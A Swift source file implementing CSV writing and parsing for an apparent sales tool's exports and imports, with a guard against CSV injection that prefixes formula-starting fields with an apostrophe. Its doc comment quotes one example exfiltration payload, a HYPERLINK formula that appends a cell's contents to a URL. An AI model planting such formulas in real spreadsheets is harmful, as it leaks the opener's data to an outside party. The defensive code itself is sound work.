/// CSV as RFC 4180 has it: records separated by CRLF (LF accepted), fields by commas, a field
/// quoted with `"` when it holds a comma, a quote or a line break, quotes doubled inside.
/// `opps export --csv` and the reports write it; `opps-hub import` reads it.
///
/// A spreadsheet opening the file reads a field that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return as a formula (CSV injection: a rep names a deal
/// `=HYPERLINK("https://…?"&A2, "详情")` and the manager who opens the export sends the row
/// away with a click). Such a field is written after an apostrophe, which a spreadsheet shows
/// as text and hides (`'=HYPERLINK(…)`); a number (`-5`, `+12.50`) is not a formula and is written
/// as it is. So that reading back gives what was written, a field that starts with an
/// apostrophe followed by one of those characters or another apostrophe gets one more, and
/// `parse` takes one such leading apostrophe away: `parse(line(fields))` is `fields`, always.
public enum CSV {
    /// One field as written: guarded against formulas, quoted only when it must be.
    public static func cell(_ text: String) -> String {
        let text = guarded(text)
        // By scalar: CR LF is one Character, equal to neither "\r" nor "\n".
        guard text.unicodeScalars.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return text }
        return "\"" + text.replacingAll("\"", with: "\"\"") + "\""
    }

    /// What a spreadsheet reads as the start of a formula.
    private static func startsFormula(_ c: Unicode.Scalar) -> Bool { c == "=" || c == "+" || c == "-" || c == "@" || c == "\t" || c == "\r" }

    /// `text` with the apostrophe a formula's start needs (see the type's comment).
    static func guarded(_ text: String) -> String {
        var scalars = text.unicodeScalars.makeIterator()
        guard let first = scalars.next() else { return text }
        if startsFormula(first) { return isNumber(text) ? text : "'" + text }
        if first == "'", let second = scalars.next(), startsFormula(second) || second == "'" { return "'" + text }
        return text
    }

    /// `field` without the apostrophe `guarded` put before it.
    static func unguarded(_ field: String) -> String {
        var scalars = field.unicodeScalars.makeIterator()
        guard scalars.next() == "'", let second = scalars.next(), startsFormula(second) || second == "'" else { return field }
        return String(field.unicodeScalars.dropFirst())
    }

    /// A plain decimal number after its sign (`-5`, `+12.50`, `-1,200`, `-12.5%`): what a
    /// spreadsheet reads as a number, never as a formula.
    private static func isNumber(_ text: String) -> Bool {
        var body = text.unicodeScalars.dropFirst()
        if body.last == "%" { body = body.dropLast() }
        let parts = body.split(separator: ".", omittingEmptySubsequences: false)
        func digits<S: Sequence<Unicode.Scalar>>(_ s: S, commas: Bool) -> Bool { s.allSatisfy { ("0"..."9").contains($0) || commas && $0 == "," } }
        guard parts.count <= 2, let whole = parts.first, let head = whole.first, let tail = whole.last, head != ",", tail != "," else { return false }
        return digits(whole, commas: true) && (parts.count == 1 || !parts[1].isEmpty && digits(parts[1], commas: false))
    }

    /// One record as written.
    public static func line(_ fields: [String]) -> String { fields.map(cell).joined(separator: ",") }

    /// A record read from a file, with the line it starts on (1-based).
    public struct Row: Sendable, Hashable {
        public var line: Int
        public var fields: [String]
    }

    public struct ParseError: Error, Sendable, CustomStringConvertible {
        public var line: Int
        public var message: String
        public var description: String { "line \(line): \(message)" }
    }

    /// Reads every record. Blank lines are skipped; a UTF-8 byte-order mark is ignored.
    public static func parse(_ text: String) throws(ParseError) -> [Row] {
        var rows = [Row]()
        var fields = [String]()
        var field = ""
        var quoted = false  // inside quotes
        var wasQuoted = false  // this field was quoted (a quote may only follow its closing quote)
        var line = 1, start = 1
        var chars = Array(text.unicodeScalars)
        if chars.first == "\u{FEFF}" { chars.removeFirst() }
        var i = 0
        func endRecord() {
            fields.append(field)
            if !(fields.count == 1 && fields[0].isEmpty && !wasQuoted) { rows.append(Row(line: start, fields: fields)) }
            fields = []
            field = ""
            wasQuoted = false
        }
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.count, chars[i + 1] == "\"" { field.unicodeScalars.append("\""); i += 2; continue }
                    quoted = false
                } else {
                    if c == "\n" { line += 1 }
                    field.unicodeScalars.append(c)
                }
                i += 1
                continue
            }
            switch c {
            case "\"":
                guard field.isEmpty, !wasQuoted else {
                    throw ParseError(line: line, message: "a quote inside an unquoted field (quote the whole field and double the quote)")
                }
                quoted = true
                wasQuoted = true
            case ",":
                fields.append(field)
                field = ""
                wasQuoted = false
            case "\r":
                if i + 1 < chars.count, chars[i + 1] == "\n" { i += 1 }
                endRecord()
                line += 1
                start = line
            case "\n":
                endRecord()
                line += 1
                start = line
            default:
                guard !wasQuoted else { throw ParseError(line: line, message: "text after a closing quote") }
                field.unicodeScalars.append(c)
            }
            i += 1
        }
        if quoted { throw ParseError(line: start, message: "a quoted field is not closed") }
        if !field.isEmpty || !fields.isEmpty || wasQuoted { endRecord() }
        return rows.map { Row(line: $0.line, fields: $0.fields.map(unguarded)) }
    }
}

extension String {
    func replacingAll(_ target: String, with replacement: String) -> String {
        guard !target.isEmpty else { return self }
        var out = ""
        var rest = self[...]
        while let r = rest.firstRange(of: target) {
            out += rest[..<r.lowerBound]
            out += replacement
            rest = rest[r.upperBound...]
        }
        return out + rest
    }
}
